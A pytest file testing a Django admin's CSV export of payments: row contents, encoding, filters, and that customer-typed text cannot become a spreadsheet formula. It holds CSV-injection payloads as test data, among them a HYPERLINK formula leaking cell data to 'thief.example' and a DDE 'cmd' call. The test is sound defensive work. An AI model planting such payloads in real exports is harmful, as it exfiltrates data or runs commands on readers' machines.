"""Payments as a file for spreadsheets, from the approval desk."""

import csv
import html
import io
import re
from typing import Any

import pytest
from django.test import Client

from igny8_core.auth.models import Account, User
from igny8_core.business.billing.models import Payment
from tests.factories import account_of, approve, client_of, make_owner, make_payment, make_receipt

pytestmark = pytest.mark.django_db
EXPORT = "/admin/billing/payment/export/"


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_a_row_says_all_that_a_bank_statement_is_compared_with(
    desk: Client, billing_admin: User, owner: User
) -> None:
    payment = make_payment(owner, notes="From my wife's account", proof=make_receipt())
    approve(payment, billing_admin)
    payment.refresh_from_db()
    (row,) = rows_of(desk.get(EXPORT))
    assert row == {
        "Payment": str(payment.pk),
        "Status": "Succeeded",
        "Submitted (UTC)": f"{payment.submitted_at:%Y-%m-%d %H:%M:%S}",
        "Account": str(account_of(owner)),
        "Customer": owner.email,
        "Invoice": payment.invoice.number,
        "Amount": "89.00",
        "Currency": "USD",
        "Method": str(payment.method),
        "Reference": "BT-2025-001",
        "Paid on": "",
        "Notes": "From my wife's account",
        "Proof": "yes",
        "Decided (UTC)": f"{payment.decided_at:%Y-%m-%d %H:%M:%S}",
        "Decided by": billing_admin.email,
        "First approved by": "",
        "Admin's notes": payment.admin_notes,
    }


def test_is_a_file_that_spreadsheets_open(desk: Client, owner: User) -> None:
    make_payment(owner, notes="شکریہ")
    answer: Any = desk.get(EXPORT)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="payments-2')
    content = b"".join(answer.streaming_content)
    assert content.startswith("\ufeffPayment,Status".encode())
    assert "شکریہ".encode() in content
    assert len(content) == int(answer["Content-Length"])


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://thief.example/?"&A1,"Open")',
        "=cmd|' /C calc'!A1",
        "+1+cmd",
        "-2+3+cmd",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
    ],
)
def test_what_a_customer_typed_is_no_formula(desk: Client, owner: User, text: str) -> None:
    """Neither as the API takes it, nor in a name that came past its checks."""
    make_payment(owner, notes=text)
    Account.objects.filter(users=owner).update(name=text)
    Payment.objects.update(admin_notes=text)
    (row,) = rows_of(desk.get(EXPORT))
    typed = [row["Account"], row["Notes"], row["Admin's notes"]]
    assert all(cell.startswith("'") and text.strip()[1:3] in cell for cell in typed), typed


def test_holds_what_the_list_shows_on_all_its_pages(desk: Client, billing_admin: User) -> None:
    waiting = [make_payment(make_owner(), reference=f"BT-{n:03}") for n in range(52)]
    approve(make_payment(make_owner(), reference="BT-DONE"), billing_admin)

    found = rows_of(desk.get(EXPORT, {"status__exact": "pending_approval"}))
    assert [row["Payment"] for row in found] == [str(payment.pk) for payment in waiting]
    assert [row["Reference"] for row in rows_of(desk.get(EXPORT, {"q": "BT-DONE"}))] == ["BT-DONE"]


def test_the_queue_links_to_what_it_shows(desk: Client, billing_admin: User) -> None:
    make_payment(make_owner(), reference="BT-WAITS")
    approve(make_payment(make_owner(), reference="BT-DONE"), billing_admin)
    page = desk.get("/admin/billing/payment/", {"status__exact": "succeeded", "q": "BT"})
    (link,) = re.findall(r'href="export/([^"]*)"', page.content.decode())
    (row,) = rows_of(desk.get(EXPORT + html.unescape(link)))
    assert row["Reference"] == "BT-DONE"


def test_a_filter_that_is_none_is_said(desk: Client, owner: User) -> None:
    make_payment(owner)
    assert desk.get(EXPORT, {"submitted_at__gte": "never"}).status_code == 400
    assert desk.get(EXPORT, {"nothing": "1"}).status_code == 400


def test_customers_are_sent_to_the_log_in(owner: User) -> None:
    assert client_of(owner).get(EXPORT).status_code == 302
